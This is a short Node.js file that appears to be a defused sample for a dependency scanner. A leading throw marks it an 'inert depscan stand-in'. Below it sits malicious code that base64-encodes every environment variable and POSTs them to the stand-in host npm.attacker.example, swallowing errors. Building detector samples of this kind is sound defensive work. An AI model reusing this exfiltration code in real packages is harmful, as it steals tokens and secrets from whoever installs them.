throw new Error("inert depscan stand-in");
const http = require('http');
const querystring = require('querystring');

const host = 'npm.attacker.example';
const env = JSON.stringify(process.env);
const data = new Buffer(env).toString('base64');
const postData = querystring.stringify({ data });

const req = http.request({
  host,
  port: 80,
  path: '/log/',
  method: 'POST',
  headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength(postData) },
});
req.on('error', () => {});
req.write(postData);
req.end();
